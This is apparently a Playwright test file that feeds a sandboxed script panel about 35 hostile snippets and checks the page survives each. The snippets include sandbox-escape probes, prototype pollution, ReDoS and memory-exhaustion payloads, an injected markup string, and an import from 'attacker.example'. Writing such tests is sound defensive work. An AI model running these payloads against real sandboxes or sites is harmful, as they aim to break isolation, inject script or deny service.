// What a script of a link tries against the page around it: it ends in a sentence, nothing is asked of another address, and the page runs
// the next script. One attack a page; daily some on one page.

import { expect, type Page, test } from '@playwright/test'; // not open.ts's: a policy that holds writes to the console
import { settled } from './open.ts';

const panelOf = (page: Page) => page.locator('.hg-panel--script');
const problemOf = (page: Page) => panelOf(page).getByRole('alert');
const logOf = (page: Page) => panelOf(page).getByRole('log');

async function run(page: Page, text: string): Promise<void> {
  await panelOf(page).getByRole('textbox', { name: 'Script' }).focus();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(text);
  await panelOf(page).getByRole('button', { name: 'Run', exact: true }).click();
}

const kPatience = { timeout: 45_000 };
const kLarge = 'memory of the language without end';
const kLimit = /did not end within 5 s/;
const kUnshown = /^The script threw an error that cannot be shown$/;
const kMuch = /more than a page can take/;

/** How it ends: what the panel says is wrong; as a text, what the script printed; what it has done; or what the page says of the run. */
type Ending = RegExp | string | { readonly status: string } | { readonly page: RegExp };

const kAttacks: readonly (readonly [name: string, text: string, ending: Ending])[] = [
  // ---- to other names, realms and code ----
  [
    'the chain of constructors',
    `const found = [];
     for (const start of [heap, console, performance, (async () => {}), (function* () {}), new Error(), WebAssembly, Math]) {
       for (let at = start; at; at = Object.getPrototypeOf(at)) {
         const made = at.constructor?.constructor?.('return [typeof fetch, typeof postMessage, typeof Worker, typeof importScripts, typeof MessagePort].join()');
         if (typeof made === 'function') { const got = made(); if (typeof got === 'string') found.push(got); }
       }
     }
     console.log([...new Set(found)].join(' '));`,
    'undefined,undefined,undefined,undefined,undefined',
  ],
  [
    'the frames of a stack',
    `Error.prepareStackTrace = (_, frames) => frames;
     const frames = new Error().stack;
     console.log(frames.map((frame) => [frame.getFunction?.(), frame.getThis?.()]).flat().filter((each) => each !== undefined && each !== globalThis).length);
     Error.prepareStackTrace = undefined;`,
    '0',
  ],
  [
    'callers and their arguments',
    `const sloppy = new Function('const found = []; try { for (let at = arguments.callee; at && found.length < 9; at = at.caller) found.push(String(at.arguments?.length)); } catch (error) { found.push(error.name); } return found.join();');
     console.log(sloppy());`,
    '0',
  ],
  [
    'an import that is under way',
    `for (const from of ['data:text/javascript,postMessage(1)', 'https://attacker.example/x.js', 'blob:null/1'])
       import(from).then(() => console.log('imported'), () => {});
     console.log('asked');`,
    'asked',
  ],
  [
    'a module that is compiled',
    `WebAssembly.compile(new Uint8Array(1 << 20)).catch(() => {}); new WebAssembly.Module(new Uint8Array(8));`,
    /^Line 1: CompileError/,
  ],
  [
    'listeners by another way',
    `const { addEventListener, dispatchEvent } = Object.getPrototypeOf(Object.getPrototypeOf(performance));
     let heard = 'nothing';
     for (const type of ['message', 'error', 'messageerror', 'unhandledrejection']) addEventListener?.call(globalThis, type, () => { heard = type; });
     console.log(heard, typeof globalThis.onmessage);`,
    'nothing undefined',
  ],
  [
    'nested workers',
    `new Worker(URL.createObjectURL(new Blob(['1'])));`,
    /ReferenceError: (Worker|URL|Blob) is not defined/,
  ],
  // ---- to the port and what is passed on ----
  [
    'a polluted language',
    `for (const proto of [Object.prototype, Array.prototype, Function.prototype, String.prototype, Promise.prototype]) {
       proto.call = proto.apply = proto.bind = () => 'mine'; proto.push = function () { return 0; }; proto.then = undefined; proto.postMessage = () => {};
       Object.defineProperty(proto, 'type', { get: () => 'ended', configurable: true });
     }
     heap.allocate(1);`,
    { status: '0 calls on the heap.' }, // its own worker passes nothing on
  ],
  [
    'an array that shows what is passed on',
    `const { push } = Array.prototype;
     Array.prototype.push = function (...given) {
       for (const one of given) if (one?.operation) one.operation = { op: 'deallocate', mem: 0xfffffff0 };
       return push.apply(this, given);
     };
     for (let n = 0; n < 50; ++n) heap.allocate(64);`,
    { page: /no block of the heap in use begins at 0x[0-9a-f_]+: the run ends at this call/ },
  ],
  [
    'addresses that no call gave',
    `const { push } = Array.prototype;
     let n = 0;
     Array.prototype.push = function (...given) {
       for (const one of given) if (one?.operation) { one.operation = { op: 'deallocate', mem: 0x400 + 16 * n++ }; one.gave = undefined; }
       return push.apply(this, given);
     };
     for (let i = 0; i < 3000; ++i) heap.allocate(64);`,
    { page: /no block of the heap in use begins at 0x[0-9a-f_]+: the run ends at this call/ },
  ],
  [
    'one huge message',
    `heap.allocate(1);
     const { stringify } = JSON;
     Object.prototype.toJSON = function () { return 'x'.repeat(2 ** 28); };
     console.log({});`,
    kMuch,
  ],
  [
    'nested arrays as a note',
    `let deep = []; for (let n = 0; n < 1e5; ++n) deep = [deep];
     Object.prototype.toJSON = () => deep;
     heap.allocate(1);`,
    kMuch,
  ],
  [
    'detached buffers',
    `const buffer = new ArrayBuffer(1 << 20);
     structuredClone(buffer, { transfer: [buffer] });
     const memory = new WebAssembly.Memory({ initial: 1 });
     let names = 0;
     try { structuredClone(memory.buffer, { transfer: [memory.buffer] }); } catch (error) { names = error.name; }
     console.log(buffer.byteLength, names);`,
    '0 TypeError',
  ],
  [
    'a bomb of structured clones',
    `let bomb = new Array(64).fill(0); for (let n = 0; n < 5; ++n) bomb = new Array(64).fill(bomb).map((one) => structuredClone(one));
     console.log('exploded');`,
    /did not end within|RangeError/,
  ],
  // ---- to time ----
  [
    'a wait for ever',
    `const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
     heap.allocate(1);
     Atomics.wait(new Int32Array(buffer), 0, 0);`,
    kLimit,
  ],
  [
    'a spin on shared memory',
    `const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
     const word = new Int32Array(buffer);
     while (Atomics.load(word, 0) === 0);`,
    kLimit,
  ],
  [
    'a loop in a module',
    `const bytes = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11);
     new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();`,
    kLimit,
  ],
  ['a pattern without end', `/^(a+)+$/.test('a'.repeat(64) + 'b');`, kLimit],
  [
    'microtasks without end',
    `queueMicrotask(function again() { queueMicrotask(again); }); console.log('ended');`,
    'ended',
  ],
  [
    'errors without end',
    `for (let n = 0; n < 300_000; ++n) queueMicrotask(() => { throw new Error('x'.repeat(1000)); });
     console.log('ended');`,
    'ended',
  ],
  [
    'marks of time without end',
    `for (let n = 0; ; ++n) { performance.mark('m' + n); performance.measure?.('x', 'm0'); }`,
    kLimit,
  ],
  ['lines for the console of the browser', `for (;;) globalThis.console.log('x'.repeat(10_000));`, kLimit],
  [
    kLarge,
    `const all = []; for (;;) all.push(new Array(1e6).fill(1.5));`,
    /did not end within 5 s|RangeError|worker stopped/,
  ],
  // ---- to who reads its errors and values ----
  [
    'an error whose message is a getter',
    `throw Object.defineProperty(new Error(), 'message', { get() { throw 1; } });`,
    kUnshown,
  ],
  [
    'an error whose message is no text',
    `throw Object.assign(new Error('x'), { message: { toString: () => { for (;;); } } });`,
    kLimit,
  ],
  ['an error that cannot be shown', `throw { toString() { throw { toString() { throw 1; } }; } };`, kUnshown],
  ['an error without prototype', `throw Object.create(null);`, kUnshown],
  [
    'a proxy as error',
    `throw new Proxy(new Error('x'), { get() { throw 1; }, getPrototypeOf() { throw 2; } });`,
    kUnshown,
  ],
  ['an error of ten million characters', `throw new Error('x'.repeat(1e7));`, /^Line 1: Error: x{1900,2000}…$/],
  ['a frozen Math', `Object.freeze(Math);\nconsole.log('ended');`, 'ended'],
  ['a symbol as error', `throw Symbol('x');`, /Symbol\(x\)/],
  ['a value whose text never ends', `console.log({ toJSON() { for (;;); } });`, kLimit],
  [
    'a value whose text throws',
    `console.log(Object.assign(() => {}, { toString() { throw new Error('mine'); } }));`,
    /Error: mine/,
  ],
  [
    'markup as a line',
    `console.log('<img src=x onerror="document.title=1"><script>document.title=2<\\/script>\\u202e\\u001b[2J');`,
    '<img src=x onerror="document.title=1"><script>document.title=2</script>\\u{202e}\\x1b[2J',
  ],
];

/** One takes 4 GB, and those that the limit ends take 5 s each. npm test has every twelfth of the others. */
const kEverything = process.env['HG_TEST'] === 'all';
const kQuick = kAttacks.filter(([name, , ending]) => name !== kLarge && ending !== kLimit);

const kPages = kEverything ? kAttacks.map((attack) => [attack]) : [kQuick.filter((_, nth) => nth % 12 === 0)];

for (const attacks of kPages)
  test(`${attacks.map(([name]) => name).join(', ')}: the page lives`, async ({ page }) => {
    let asked = 0;
    await page.context().route(/attacker/, (route) => {
      asked += 1;
      return route.abort();
    });
    await page.goto('./#scenario=burst_list&event=100&tab=script');
    await settled(page);
    for (const [name, text, ending] of attacks)
      await test.step(name, async () => {
        await run(page, text);
        if (typeof ending === 'string') await expect(logOf(page)).toHaveText(ending, kPatience);
        else if (ending instanceof RegExp) await expect(problemOf(page)).toHaveText(ending, kPatience);
        else if ('status' in ending)
          await expect(panelOf(page).getByRole('status')).toHaveText(ending.status, kPatience);
        else await expect(page.getByText(ending.page).first()).toBeVisible(kPatience);
        await run(page, `heap.allocate(1);\nconsole.log('alive', typeof Array.prototype.bind);`);
        await expect(logOf(page)).toHaveText('alive undefined', kPatience);
        await expect(problemOf(page)).toHaveCount(0);
        expect(await page.title()).toMatch(/heapglass/);
        expect(asked).toBe(0);
      });
  });
